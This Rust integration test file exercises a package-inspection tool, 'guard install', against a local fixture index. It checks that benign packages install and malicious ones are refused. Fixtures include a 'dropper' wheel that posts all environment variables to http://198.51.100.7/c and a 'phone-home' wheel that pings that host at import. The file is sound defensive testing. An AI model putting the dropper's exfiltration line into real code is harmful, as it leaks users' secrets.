//! `guard install` end to end (issue 6): a real virtualenv made with
//! `python3 -m venv`, the real pip, and a local index on 127.0.0.1 serving
//! fixture packages built here. Offline: the only file not built by the test
//! is the setuptools wheel that ships with Python (ensurepip), served as the
//! build dependency of the benign sdist.
//!
//! Fixtures: a benign wheel; a benign sdist whose PEP 517 build needs
//! setuptools (its in-tree backend imports it, so pip must install it offline
//! from the inspected files); a malicious-pattern sdist whose setup.py would
//! create a canary file; a wheel that the test policy makes `review`.
//! The review prompt runs under a real pseudo-terminal via util-linux `script`.

mod common;

use std::path::PathBuf;
use std::process::{Command, Stdio};

use common::backend::{backend_sdist, local_project};
use common::env::{text, venv, Env, Pip};
use common::{sdist, sha, wheel, Fault};

/// The setuptools wheel bundled with the Python that runs the tests.
fn bundled_setuptools() -> PathBuf {
    let out = Command::new("python3")
        .args(["-c", "import ensurepip,os;print(os.path.dirname(ensurepip.__file__))"])
        .output()
        .unwrap();
    let dir = PathBuf::from(String::from_utf8(out.stdout).unwrap().trim()).join("_bundled");
    std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("setuptools-"))
        .expect("ensurepip bundles a setuptools wheel")
}

fn setup() -> Env {
    let env = Env::new(Pip::Real);
    let index = &env.index;
    index.add("benign-wheel", wheel("benign-wheel", "1.0", &[]), Fault::None);
    // Built by the shared in-tree backend, which imports setuptools: pip must
    // install the setuptools guard inspected, offline, into the build environment.
    index.add(
        "benign-sdist",
        backend_sdist("benign-sdist", "1.0", &["setuptools"], "VALUE = 2\n"),
        Fault::None,
    );
    let setup_py = env.canary_setup_py("evil-pkg");
    index.add(
        "evil-pkg",
        sdist(
            "evil-pkg",
            "1.0",
            &[
                ("setup.py", setup_py),
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n".into(),
                ),
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n".into(),
                ),
            ],
        ),
        Fault::None,
    );
    // A wheel that phones home at import: `install-network`, raised to high by the test policy → review.
    let (name, bytes) = wheel_with("phone-home", "urllib.request.urlopen('http://198.51.100.7/ping')\n");
    index.add("phone-home", (name, bytes), Fault::None);

    let st = bundled_setuptools();
    let st_bytes = std::fs::read(&st).unwrap();
    let st_sha = sha(&st_bytes);
    index.add(
        "setuptools",
        (st.file_name().unwrap().to_string_lossy().into_owned(), st_bytes),
        Fault::None,
    );

    std::fs::write(
        env.project().join("guard.toml"),
        format!(
            "[rules]\nseverity = {{ \"install-network\" = \"high\" }}\n\n[[allow]]\nname = \"setuptools\"\nsha256 = \"{st_sha}\"\nreason = \"the build backend bundled with CPython\"\n"
        ),
    )
    .unwrap();
    env
}

fn wheel_with(name: &str, body: &str) -> (String, Vec<u8>) {
    let p = common::artifacts::Package::new(name, "1.0");
    let init = format!("{}/__init__.py", p.dist());
    // Complete metadata, so that only the code decides the verdict.
    p.headers("Summary: fixture\nAuthor: Test\n")
        .file(&init, format!("import urllib.request\n{body}"))
        .wheel()
}

fn installed(env: &Env, dist: &str) -> bool {
    let out = Command::new(&env.python)
        .args(["-m", "pip", "show", "-q", dist])
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .output()
        .unwrap();
    out.status.success()
}

fn audit_lines(env: &Env) -> Vec<serde_json::Value> {
    std::fs::read_to_string(env.audit())
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn benign_wheel_and_sdist_are_installed_offline_and_importable() {
    let env = setup();
    let out = env.guard(&["benign-wheel", "benign-sdist"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(env.imports("benign_wheel"), "{}", text(&out));
    assert!(env.imports("benign_sdist"), "{}", text(&out));
    // The sdist was built by the in-tree backend with the setuptools guard inspected.
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("allowed"), "{}", text(&out));
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["package"] == "setuptools" && r["decision"] == "approved"));
    assert!(audit.iter().all(|r| r["decision"] == "approved"), "{audit:?}");
}

#[test]
fn malicious_sdist_is_refused_without_a_tty_and_never_runs() {
    let env = setup();
    for extra in [&[][..], &["--yes"]] {
        let mut args = vec!["benign-wheel", "evil-pkg"];
        args.extend_from_slice(extra);
        let out = env.guard(&args);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("evil-pkg") && stdout.contains("DENY"), "{}", text(&out));
        assert!(stdout.contains("Nothing was installed."), "{}", text(&out));
        assert!(!env.canary.exists(), "setup.py ran");
        // All or nothing: the benign package asked for with it is not installed either.
        assert!(!installed(&env, "benign-wheel"), "{}", text(&out));
    }
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["package"] == "evil-pkg" && r["verdict"] == "deny" && r["decision"] == "refused"));
}

#[test]
fn review_without_tty_is_refused_and_yes_approves_it() {
    let env = setup();
    let out = env.guard(&["phone-home"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("REVIEW"),
        "{}",
        text(&out)
    );
    assert!(!installed(&env, "phone-home"));
    let out = env.guard(&["phone-home", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "phone-home"));
    let audit = audit_lines(&env);
    assert!(audit
        .iter()
        .any(|r| r["how"] == "non-interactive" && r["decision"] == "refused"));
    assert!(audit.iter().any(|r| r["how"] == "--yes" && r["decision"] == "approved"));
}

#[test]
fn review_is_asked_on_a_pseudo_terminal() {
    if Command::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: util-linux `script` is not available");
        return;
    }
    let env = setup();
    let (code, screen) = env.guard_on_tty(&["phone-home"], "n");
    assert_eq!(code, Some(1), "{screen}");
    assert!(screen.contains("Install phone-home 1.0?"), "{screen}");
    assert!(
        screen.contains("install-network"),
        "findings shown before asking: {screen}"
    );
    assert!(!installed(&env, "phone-home"));
    let (code, screen) = env.guard_on_tty(&["phone-home"], "y");
    assert_eq!(code, Some(0), "{screen}");
    assert!(installed(&env, "phone-home"), "{screen}");
    let audit = audit_lines(&env);
    assert!(audit.iter().any(|r| r["how"] == "prompt" && r["decision"] == "refused"));
    assert!(audit
        .iter()
        .any(|r| r["how"] == "prompt" && r["decision"] == "approved"));
}

#[test]
fn hash_mismatch_stops_everything() {
    let env = setup();
    let (name, bytes) = wheel("tampered", "1.0", &[]);
    env.index
        .add_with_hash("tampered", (name, bytes), Fault::None, &"0".repeat(64));
    let out = env.guard(&["benign-wheel", "tampered"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!installed(&env, "benign-wheel"));
    assert!(!installed(&env, "tampered"));
}

#[test]
fn pip_environment_cannot_widen_the_handoff() {
    let env = setup();
    // PIP_REQUIREMENT would make pip install an extra, uninspected requirement;
    // PIP_FIND_LINKS (set globally on some machines) would add a directory. guard's
    // handoff removes PIP_* variables, so pip sees only guard's pinned files.
    let elsewhere = env.dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let extra = env.dir.path().join("extra-requirements.txt");
    std::fs::write(&extra, "evil-pkg\n").unwrap();
    let out = env
        .command(&["benign-wheel==1.0"])
        .env("PIP_FIND_LINKS", &elsewhere)
        .env("PIP_REQUIREMENT", &extra)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "benign-wheel"));
    assert!(!installed(&env, "evil-pkg"));
    assert!(!env.canary.exists());
}

// ---------------------------------------------------------------------------
// Issue 12: local projects, editable installs, files, URLs, git, uv.

fn pip_show(env: &Env, dist: &str) -> String {
    let out = Command::new(&env.python)
        .args(["-m", "pip", "show", dist])
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The uv that `.ci/run` installs, found as guard finds it.
fn uv() -> PathBuf {
    guard::handoff::find_uv().expect("uv is needed for these tests: `pip install uv` (.ci/run does)")
}

#[test]
fn editable_local_project_installs_with_inspected_dependencies() {
    let env = setup();
    let proj = env.project().join("mine");
    local_project(&proj, "mine", "0.1", &["benign-wheel"]);
    let report = env.dir.path().join("report.json");
    let out = env.guard(&["-e", "./mine", "--report", report.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    // pip's installation report covers both runs: the dependency and the project.
    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    let names: Vec<&str> = report["install"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["metadata"]["name"].as_str())
        .collect();
    assert!(names.contains(&"benign-wheel") && names.contains(&"mine"), "{names:?}");
    let show = pip_show(&env, "mine");
    assert!(
        show.contains(&format!(
            "Editable project location: {}",
            proj.canonicalize().unwrap().display()
        )),
        "{show}\n{}",
        text(&out)
    );
    assert!(installed(&env, "benign-wheel"), "{}", text(&out));
    assert!(env.imports("mine"));
    // Edits show without reinstalling: it is editable.
    std::fs::write(proj.join("src/mine/__init__.py"), "VALUE = 'edited'\n").unwrap();
    let v = Command::new(&env.python)
        .args(["-c", "import mine; print(mine.VALUE)"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&v.stdout).trim(), "edited");
    // A compact summary, not pip's `Processing /tmp/guard-handoff-…` lines.
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("+ benign-wheel==1.0"), "{}", text(&out));
    assert!(stdout.contains("+ mine (editable"), "{}", text(&out));
    assert!(!stdout.contains("Processing"), "{}", text(&out));
    // The plan says the project is the user's own.
    let dry = env.guard(&["-e", "./mine", "--dry-run", "--format", "json"]);
    let plan: serde_json::Value = serde_json::from_slice(&dry.stdout).unwrap();
    assert_eq!(plan["local"][0]["verdict"], "local", "{plan}");
    assert_eq!(plan["local"][0]["editable"], true, "{plan}");
    assert!(plan["packages"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["name"] == "setuptools" && p["build_dependency"] == true));
}

#[test]
fn dynamic_dependencies_come_from_the_metadata_hook_with_inspected_backend() {
    let env = setup();
    let log = env.dir.path().join("builds.log");
    let proj = env.project().join("dyn");
    local_project(&proj, "dyn-proj", "0.3", &[]);
    let pyproject = std::fs::read_to_string(proj.join("pyproject.toml")).unwrap();
    std::fs::write(
        proj.join("pyproject.toml"),
        pyproject.replace("dependencies = []", "dynamic = [\"dependencies\"]"),
    )
    .unwrap();
    std::fs::write(proj.join("requirements.txt"), "benign-wheel\n").unwrap();
    let out = env
        .command(&["-e", "./dyn"])
        .env("GUARD_TEST_BUILD_LOG", &log)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        installed(&env, "benign-wheel"),
        "the hook's dependency was installed\n{}",
        text(&out)
    );
    assert!(installed(&env, "dyn-proj"));
    let builds = std::fs::read_to_string(&log).unwrap();
    assert!(builds.contains("metadata dyn-proj"), "{builds}");
    // A malicious dependency named only by the hook is refused like any other.
    let env = setup();
    local_project(&env.project().join("dyn"), "dyn-proj", "0.3", &[]);
    let p = env.project().join("dyn");
    std::fs::write(
        p.join("pyproject.toml"),
        pyproject.replace("dependencies = []", "dynamic = [\"dependencies\"]"),
    )
    .unwrap();
    std::fs::write(p.join("requirements.txt"), "evil-pkg\n").unwrap();
    let out = env.guard(&["./dyn"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(!installed(&env, "dyn-proj") && !env.canary.exists());
}

#[test]
fn local_project_with_a_malicious_dependency_installs_nothing() {
    let env = setup();
    let proj = env.project().join("mine");
    local_project(&proj, "mine", "0.1", &["benign-wheel", "evil-pkg"]);
    for args in [&["-e", "./mine"][..], &["./mine"], &["./mine", "--installer", "uv"]] {
        let out = env.command(args).env("GUARD_UV", uv()).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}\n{}", text(&out));
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(stdout.contains("evil-pkg") && stdout.contains("DENY"), "{}", text(&out));
        assert!(!installed(&env, "mine"), "the project itself is not installed either");
        assert!(!installed(&env, "benign-wheel"));
        assert!(!env.canary.exists(), "setup.py ran");
    }
}

#[test]
fn local_malicious_wheel_file_is_refused_and_benign_one_installs() {
    let env = setup();
    let (name, bytes) = wheel_with(
        "dropper",
        "import os\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\n",
    );
    let dist = env.project().join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    std::fs::write(dist.join(&name), bytes).unwrap();
    let out = env.guard(&[&format!("./dist/{name}")]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("DENY"), "{}", text(&out));
    assert!(!installed(&env, "dropper"));

    let (name, bytes) = wheel("handed-over", "2.0", &["benign-wheel"]);
    std::fs::write(dist.join(&name), bytes).unwrap();
    let out = env.guard(&[&format!("./dist/{name}")]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "handed-over"));
    assert!(installed(&env, "benign-wheel"), "its dependency came from the index");
}

#[test]
fn url_requirement_is_hash_checked() {
    let env = setup();
    let (name, bytes) = wheel("by-url", "1.0", &[]);
    let good = sha(&bytes);
    env.index.route(
        &format!("/direct/{name}"),
        bytes,
        "application/octet-stream",
        Fault::None,
    );
    let base = format!("http://127.0.0.1:{}/direct/{name}", env.index.port);
    let out = env.guard(&[&format!("by-url @ {base}#sha256={}", "0".repeat(64))]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("sha256"),
        "{}",
        text(&out)
    );
    assert!(!installed(&env, "by-url"));
    let out = env.guard(&[&format!("by-url @ {base}#sha256={good}")]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env, "by-url"));
}

#[test]
fn requirements_file_mixing_projects_files_urls_and_names_is_one_install() {
    let env = setup();
    let p = env.project();
    local_project(&p.join("a"), "proj-a", "0.1", &["benign-wheel"]);
    local_project(&p.join("b"), "proj-b", "0.2", &[]);
    let (name, bytes) = wheel("from-url", "1.0", &[]);
    env.index.route(
        &format!("/direct/{name}"),
        bytes,
        "application/octet-stream",
        Fault::None,
    );
    let url = format!("from-url @ http://127.0.0.1:{}/direct/{name}", env.index.port);
    std::fs::write(
        p.join("requirements.txt"),
        format!("-e ./a\n./b\n{url}\nbenign-sdist\n"),
    )
    .unwrap();
    let out = env.guard(&["-r", "requirements.txt"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    for dist in ["proj-a", "proj-b", "from-url", "benign-sdist", "benign-wheel"] {
        assert!(installed(&env, dist), "{dist}\n{}", text(&out));
    }
    assert!(pip_show(&env, "proj-a").contains("Editable project location"));
    assert!(!pip_show(&env, "proj-b").contains("Editable project location"));

    // The same file with a denied package in it: nothing at all.
    let env = setup();
    let p = env.project();
    local_project(&p.join("a"), "proj-a", "0.1", &[]);
    std::fs::write(p.join("requirements.txt"), "-e ./a\nbenign-wheel\nevil-pkg\n").unwrap();
    let out = env.guard(&["-r", "requirements.txt"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(!installed(&env, "proj-a") && !installed(&env, "benign-wheel"));
    assert!(!env.canary.exists());
}

#[test]
fn git_repository_is_inspected_at_the_pinned_commit_then_installed() {
    let env = setup();
    let repo = env.dir.path().join("repo");
    local_project(&repo, "from-git", "1.0", &[]);
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .current_dir(&repo)
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(args)
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "v1"]);
    let pinned = String::from_utf8(
        Command::new("git")
            .current_dir(&repo)
            .args(["rev-parse", "HEAD"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    std::fs::write(repo.join("src/from_git/__init__.py"), "VALUE = 'v2'\n").unwrap();
    git(&["commit", "-qam", "v2"]);
    let url = format!("from-git @ git+file://{}@{pinned}", repo.display());
    let dry = env.guard(&[&url, "--dry-run", "--format", "json"]);
    assert_eq!(dry.status.code(), Some(0), "{}", text(&dry));
    let plan: serde_json::Value = serde_json::from_slice(&dry.stdout).unwrap();
    let pkg = plan["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "from-git")
        .cloned()
        .unwrap();
    assert!(pkg["direct"].as_str().unwrap().ends_with(&pinned), "{pkg}");
    assert_eq!(pkg["verdict"], "allow", "{pkg}");
    let out = env.guard(&[&url]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let v = Command::new(&env.python)
        .args(["-c", "import from_git; print(from_git.VALUE)"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&v.stdout).trim(),
        "v1",
        "the pinned commit, not the branch head"
    );
}

#[test]
fn uv_installer_and_built_wheels_are_kept() {
    let env = setup();
    let log = env.dir.path().join("builds.log");
    let proj = env.project().join("mine");
    local_project(&proj, "mine", "0.1", &["benign-wheel", "benign-sdist"]);
    let run = |env: &Env, args: &[&str]| {
        env.command(args)
            .env("GUARD_UV", uv())
            .env("GUARD_TEST_BUILD_LOG", &log)
            .output()
            .unwrap()
    };
    let out = run(&env, &["--installer", "uv", "-e", "./mine"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        installed(&env, "benign-sdist") && installed(&env, "mine"),
        "{}",
        text(&out)
    );
    assert!(pip_show(&env, "mine").contains("Editable project location"));
    let built = common::files_under(&env.cache().join("built-wheels-v1"));
    assert!(
        built
            .iter()
            .any(|p| p.to_string_lossy().ends_with("benign_sdist-1.0-py3-none-any.whl")),
        "{built:?}"
    );
    // A second environment sharing the cache: the approved sdist's wheel is reused, not rebuilt.
    let env2 = Env {
        python: venv(&env.dir.path().join("venv2")),
        ..env
    };
    let out = run(&env2, &["benign-sdist"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(installed(&env2, "benign-sdist"));
    let builds = std::fs::read_to_string(&log).unwrap_or_default();
    assert_eq!(
        builds.lines().filter(|l| l.starts_with("benign-sdist")).count(),
        1,
        "built once: {builds}"
    );
    assert_eq!(builds.lines().filter(|l| l.starts_with("mine")).count(), 1, "{builds}");
}
